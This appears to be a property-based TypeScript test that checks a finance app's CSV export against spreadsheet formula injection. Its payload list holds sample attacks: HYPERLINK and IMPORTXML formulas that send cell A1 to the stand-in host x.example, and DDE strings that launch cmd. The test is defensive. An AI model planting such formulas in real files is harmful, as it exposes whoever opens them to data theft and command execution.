import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import * as fc from 'fast-check';
import { addOwner, inFolder, useStore } from '../run/book.ts';
import type { Check } from '../run/check.ts';
import { cofferPrints, whose } from '../run/coffer.ts';

const seed = 25;
const longestName = 40;
const longestExternalId = 60;

/** Texts that want to be formulas, from a statement into a book, out as CSV and in again. */
export const check: Check = {
  id: 'F25',
  promise:
    'No text becomes a formula in a spreadsheet that opens the CSV export, and importing the export gives the same texts',
  rounds: { short: 300, full: 2_000 },
  run: (rows) =>
    inFolder(async (folder) => {
      const [first, second] = ['first', 'second'].map((name) => join(folder, `${name}.db`));
      const texts = hostileTexts(rows * 5, seed);
      const statement = join(folder, 'statement.csv');
      await writeFile(statement, statementOf(texts));
      const exported = await throughBook(first!, statement);
      const file = join(folder, 'exported.csv');
      await writeFile(file, exported);
      const again = await throughBook(second!, file);
      const cells = cellsOf(exported).slice(1);
      const formulas = cells.flat().filter(mayBeFormula);
      const problems = formulas.map((cell) => `may be a formula: ${JSON.stringify(cell)}`);
      if (cells.length !== rows) problems.push(`${cells.length} of ${rows} rows came out`);
      problems.push(...missingNotes(texts, cells), ...otherRows(cells, cellsOf(again).slice(1)));
      const guarded = cells.flat().filter((cell) => cell.startsWith("'")).length;
      const figure = `${texts.length} hostile texts (seed ${seed}), ${guarded} guarded, ${formulas.length} formulas`;
      return { figure, problems };
    }),
};

/** A row of five texts each: payee, notes, category, account, external id. */
function statementOf(texts: readonly string[]): string {
  const rows: string[] = [];
  for (let at = 0; at < texts.length; at += 5) {
    const [payee = '', notes = '', category = '', account = '', externalId = ''] = texts.slice(at);
    const names = [category, account].map((name) => name.slice(0, longestName).toWellFormed());
    const id = `${externalId.slice(0, longestExternalId).toWellFormed()} ${at}`;
    rows.push(['2024-02-29', '-1.00', payee, notes, ...names, id].map(quoted).join(','));
  }
  return `Date,Amount,Payee,Notes,Category,Account,External ID\n${rows.join('\n')}\n`;
}

function quoted(text: string): string {
  return `"${text.replaceAll('"', '""')}"`;
}

/** Imports a file into a new book and exports the book as CSV. */
async function throughBook(database: string, file: string): Promise<string> {
  const owner = await useStore(database, (store) => addOwner(store, 'owner'));
  await cofferPrints('import', file, '--decimal', 'point', ...whose(owner, database));
  return cofferPrints('export', ...whose(owner, database));
}

/** What a note has to be in the export: with an apostrophe that guards, and without one that the book does not keep. */
function missingNotes(texts: readonly string[], cells: readonly (readonly string[])[]): string[] {
  return cells.flatMap((row, n) => {
    const sent = texts[n * 5 + 1] ?? '';
    const found = row[5] ?? '';
    // A text of the statement that is guarded already stands for what it guards.
    const isGuarded = sent.startsWith("'") && mayBeFormula(sent.slice(1));
    const kept = isGuarded ? sent.slice(1) : sent.trim();
    const shown = mayBeFormula(kept) ? `'${kept}` : kept;
    if (kept.trim() === '')
      return found === '' ? [] : [`a blank came out as ${JSON.stringify(found)}`];
    const isSame = found === shown || (shown.startsWith("'") && found === ` ${shown}`);
    return isSame ? [] : [`${JSON.stringify(sent)} came out as ${JSON.stringify(found)}`];
  });
}

/** The rows of two exports that differ in more than the ids. */
function otherRows(
  first: readonly (readonly string[])[],
  second: readonly (readonly string[])[],
): string[] {
  return first.flatMap((row, n) => {
    const [before, after] = [row, second[n] ?? []].map((cells) => JSON.stringify(cells.slice(1)));
    return before === after ? [] : [`${before} became ${after}`];
  });
}

/** The cells of a CSV file, read as RFC 4180 says and by nothing of ours. */
function cellsOf(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  const pattern = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\n|$)/gy;
  for (const [whole, inQuotes, bare, end] of csv.matchAll(pattern)) {
    if (whole === '') break;
    row.push(inQuotes?.replaceAll('""', '"') ?? bare ?? '');
    if (end === ',') continue;
    rows.push(row);
    row = [];
  }
  return rows;
}

/**
 * What spreadsheets take for the beginning of a formula or a command: the six of OWASP, and their full-width forms,
 * which some of them fold. Source: OWASP, CSV Injection.
 */
const triggers = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠', '\n', '|', '%'];
/** What a program may skip or strip before it looks at the first sign. */
const leading = [
  ...['', '', '', ' ', '  ', '\u00a0', '\u3000', '\ufeff', '\u200b', '\u200e', '\u2060', '\u00ad'],
  ...["'", "''", '"', '""', ' "', "' ", '\u2028', '\v', '\f', '\u202e', '\u180e', '\u034f'],
];
const payloads = [
  ...['1+1', 'SUM(A1:A9)', "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example?"&A1,"y")'],
  ...['WEBSERVICE("http://x.example")', 'DDE("cmd";"/C calc";"x")', '2+5+cmd|x!A', 'x', ''],
  ...['IMPORTXML(CONCAT("http://x.example?",A1),"//a")', '1";=1+1;"', '1\n=1+1', '1\r=1+1'],
  ...['1,=1+1', '1\t=1+1', '1;=1+1', '-=1', '"=1', '\'=1"'],
];

const text = fc
  .tuple(
    fc.constantFrom(...leading),
    fc.constantFrom('', ...triggers, ...triggers),
    fc.constantFrom(...leading),
    fc.oneof(
      fc.constantFrom(...payloads),
      fc.string({ unit: 'grapheme', maxLength: 12 }),
      fc.string({ unit: fc.constantFrom(...leading, ...triggers, 'a'), maxLength: 6 }),
    ),
  )
  .map((parts) => parts.join('').replaceAll('\0', ''));

/** Texts as people and statements bring them, most of them meant to become a formula somewhere. */
function hostileTexts(count: number, seed: number): string[] {
  return fc.sample(text, { numRuns: count, seed });
}

/**
 * Whether a spreadsheet may take a cell for a formula: by its first sign, and by the first that is neither a blank nor
 * invisible, because programs differ in what they skip. An amount is a number, and no formula.
 */
function mayBeFormula(cell: string): boolean {
  if (/^-?\d+\.\d{4}$/.test(cell)) return false;
  const visible = Array.from(cell).filter((sign) => !/[\s\p{Cf}]/u.test(sign));
  return '=+-@＝＋－＠'.includes(visible[0] ?? '?') || '\t\r\n'.includes(cell[0] ?? '?');
}
